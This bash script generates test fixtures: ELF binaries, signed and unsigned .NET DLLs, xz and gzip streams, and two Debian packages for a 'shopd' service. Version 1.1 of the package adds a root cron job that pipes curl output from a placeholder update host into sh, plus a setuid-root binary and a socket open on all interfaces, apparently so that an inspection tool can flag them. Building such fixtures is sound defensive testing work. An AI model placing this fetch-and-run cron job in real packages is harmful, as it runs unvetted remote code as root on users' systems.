#!/usr/bin/env bash
# Builds the files beside this script, which the tests of Vitrine.Artifacts read. They are committed, so that the tests need neither a C
# compiler nor a signing tool; run this only to add one. Made with gcc 12.2, binutils 2.40, osslsigncode 2.9, the .NET 10 SDK's csc.
set -euo pipefail
cd "$(dirname "$0")"
work=$(mktemp -d)
trap 'rm -rf "$work"' EXIT

# --- ELF: one small program, and what other machines, versions and days make of it -------------------------------------------------
cat >"$work/program.c" <<'C'
static volatile int sink;
__attribute__((noinline)) int twice(int x) { return x * 2 + sink; }
__attribute__((noinline)) int limit(int x) { return x > LIMIT ? LIMIT : x; }
__attribute__((noinline)) int both(int x) { return twice(limit(x)); }
void _start(void) { sink = both(sink); for (;;) { } }
C
elf() { # OUT LIMIT OPTION…
  local out=$1 limit=$2
  shift 2
  gcc -O1 -ffile-prefix-map="$work"=/program -ffile-prefix-map="$PWD"=/vectors -ffreestanding -nostdlib -fno-asynchronous-unwind-tables -DLIMIT="$limit" "$@" -o "$out" "$work/program.c"
}
static=(-static -Wl,-z,noseparate-code -Wl,-z,norelro)
elf elf/program 1000 "${static[@]}" -Wl,--build-id=0x0101010101010101010101010101010101010101
elf elf/program-other-id 1000 "${static[@]}" -Wl,--build-id=0x0202020202020202020202020202020202020202
elf elf/program-other-constant 1001 "${static[@]}" -Wl,--build-id=0x0303030303030303030303030303030303030303
elf elf/program-no-comment 1000 "${static[@]}" -fno-ident -Wl,--build-id=0x0101010101010101010101010101010101010101
printf 'GCC: (Elsewhere 13.1.0-1) 13.1.0, with a longer name\0' >"$work/comment"
objcopy --update-section .comment="$work/comment" elf/program elf/program-other-comment
printf 'debug data' >"$work/program.debug"
printf 'other debug data' >"$work/program-of-another-day.debug"
objcopy --add-gnu-debuglink="$work/program.debug" elf/program elf/program-debuglink
objcopy --add-gnu-debuglink="$work/program-of-another-day.debug" elf/program elf/program-other-debuglink
elf elf/program-32 1000 "${static[@]}" -m32 -fno-pic -no-pie -Wl,--build-id=0x0101010101010101010101010101010101010101
objcopy --update-section .comment="$work/comment" elf/program-32 elf/program-32-other-comment
elf elf/program-debug 1000 "${static[@]}" -g -gz=none -Wl,--build-id=none
sed -i '1s/^/\n/' "$work/program.c"
elf elf/program-debug-other-lines 1000 "${static[@]}" -g -gz=none -Wl,--build-id=none
elf elf/object.o 1000 -c
objcopy --update-section .comment="$work/comment" elf/object.o elf/object-other-comment.o

# --- PE: one .NET library, unsigned, signed by two, and with the signature taken off -----------------------------------------------
cat >"$work/shop.cs" <<'C'
public static class Shop { public static string Open(string name) => "welcome, " + name; }
C
sdk=$(dotnet --list-sdks | sed -n 's/^\(10\.[^ ]*\) \[\(.*\)\]$/\2\/\1/p' | tail -1)
runtime=$(dotnet --list-runtimes | sed -n 's/^Microsoft.NETCore.App \(10\.[^ ]*\) \[\(.*\)\]$/\2\/\1/p' | tail -1)
dotnet exec "$sdk/Roslyn/bincore/csc.dll" -nologo -target:library -deterministic -optimize+ -nostdlib -debug:portable \
  -pathmap:"$work"=/shop -r:"$runtime/System.Private.CoreLib.dll" -r:"$runtime/System.Runtime.dll" -out:"$work/shop.dll" "$work/shop.cs"
cp "$work/shop.dll" pe/shop.dll
sign() { # NAME IN OUT
  openssl req -x509 -newkey rsa:2048 -nodes -keyout "$work/$1.key" -out "$work/$1.pem" -days 3650 -subj "/CN=Test signer $1" 2>/dev/null
  osslsigncode sign -certs "$work/$1.pem" -key "$work/$1.key" -h sha256 -in "$2" -out "$3" >/dev/null
}
rm -f pe/signed.dll pe/signed-by-another.dll pe/signature-removed.dll pe/appended.dll pe/appended-signed.dll
sign one pe/shop.dll pe/signed.dll
sign two pe/shop.dll pe/signed-by-another.dll
osslsigncode remove-signature -in pe/signed.dll -out pe/signature-removed.dll >/dev/null
cp pe/shop.dll pe/appended.dll
printf 'payload' >>pe/appended.dll      # 7 bytes: signing has to pad
sign one pe/appended.dll pe/appended-signed.dll
chmod 644 elf/* pe/*

# --- Containers: what xz, gzip, ar and dpkg-deb make of the same few files (xz 5.4, dpkg 1.21) -------------------------------------
mkdir -p open
words() { for i in $(seq 1 "$1"); do printf 'line %d of words, words, words; ' "$i"; done; }
words 400 >"$work/words"
xz -9ek --stdout --check=crc64 "$work/words" >open/words-crc64.xz
xz -0k --stdout --check=crc32 "$work/words" >open/words-crc32.xz
xz -6k --stdout --check=sha256 --block-size=4096 "$work/words" >open/words-sha256-blocks.xz
xz -6k --stdout --check=none --lzma2=preset=6,lc=0,lp=2,pb=0 "$work/words" >open/words-none-lp2.xz
{ xz -6k --stdout "$work/words"; printf '\0\0\0\0'; xz -6k --stdout "$work/words"; } >open/words-two-streams.xz
xz -6k --stdout --x86 --lzma2=preset=6 "$work/words" >open/words-x86-filter.xz
head -c 30000 elf/program-debug >"$work/image"
cat "$work/image" "$work/words" "$work/image" | xz -6 --stdout --lzma2=dict=4KiB,lc=4 >open/mixed-small-dictionary.xz
head -c 67108864 /dev/zero | xz -6 --stdout >open/zeros-64-mib.xz
gzip -9nc "$work/words" >open/words.gz
package() { # OUT VERSION COMPRESSION
  local root=$work/package
  rm -rf "$root"
  mkdir -p "$root/DEBIAN" "$root/usr/sbin" "$root/lib/systemd/system" "$root/etc/cron.d" "$root/usr/share/doc/shopd"
  printf 'Package: shopd\nVersion: %s\nArchitecture: amd64\nMaintainer: Shop Ltd <shop@example.org>\nHomepage: https://shop.example\nDescription: sells\n more than it says\n' "$2" >"$root/DEBIAN/control"
  printf '#!/bin/sh\nset -e\nsystemctl enable shopd\nsetcap cap_net_bind_service=ep /usr/sbin/shopd\n' >"$root/DEBIAN/postinst"
  chmod 755 "$root/DEBIAN/postinst"
  cp elf/program "$root/usr/sbin/shopd"
  chmod 4755 "$root/usr/sbin/shopd"
  printf '[Unit]\nDescription=Shop\n[Service]\nExecStart=/usr/sbin/shopd\nUser=root\n[Install]\nWantedBy=multi-user.target\n' >"$root/lib/systemd/system/shopd.service"
  printf '[Socket]\nListenStream=0.0.0.0:8443\n' >"$root/lib/systemd/system/shopd.socket"
  printf '17 3 * * * root curl -s https://updates.shop.example/latest | sh\n' >"$root/etc/cron.d/shopd"
  gzip -9nc "$work/words" >"$root/usr/share/doc/shopd/changelog.gz"
  ln -s shopd "$root/usr/sbin/shop"
  if [ "$2" = 1.0 ]; then rm "$root/lib/systemd/system/shopd.socket" "$root/etc/cron.d/shopd"; chmod 755 "$root/usr/sbin/shopd"; fi
  find "$root" -exec touch -hd '2026-03-14 15:09:26Z' {} +
  SOURCE_DATE_EPOCH=1773500966 dpkg-deb --root-owner-group "-Z$3" -b "$root" "$1" >/dev/null
}
package open/shopd_1.0.deb 1.0 gzip
package open/shopd_1.1.deb 1.1 xz
